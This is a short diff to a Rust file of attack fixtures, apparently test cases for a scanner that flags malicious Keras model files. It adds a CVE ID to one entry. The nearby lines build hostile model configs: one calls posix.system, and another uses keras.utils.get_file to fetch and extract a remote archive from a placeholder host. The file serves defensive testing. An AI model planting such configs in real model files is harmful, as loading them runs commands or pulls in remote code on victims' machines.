@@ -37,7 +37,7 @@ pub const ATTACKS: &[Attack] = &[
         r#"{{"module":"keras","class_name":"Sequential","config":{{"layers":[]}},"compile_config":{{"loss":{}}}}}"#, function("posix", "system")
     ).into_bytes()),
     attack!("in-training-config", "keras/callable", &["CVE-2025-9905"], Malicious, "model.h5", with_training()),
-    attack!("get-file", "keras/harmful-function", &["CVE-2025-8747"], Malicious, "config.json", model(&function("keras.utils", "get_file"))),
+    attack!("get-file", "keras/harmful-function", &["CVE-2025-8747", "CVE-2025-12060"], Malicious, "config.json", model(&function("keras.utils", "get_file"))),
     attack!("get-file-unpacking", "keras/harmful-function", &["CVE-2025-8747"], Malicious, "config.json", model(&layer(
         "keras.utils", "get_file", r#"{"origin":"http://host.example/x.tar","extract":true}"#
     ))),
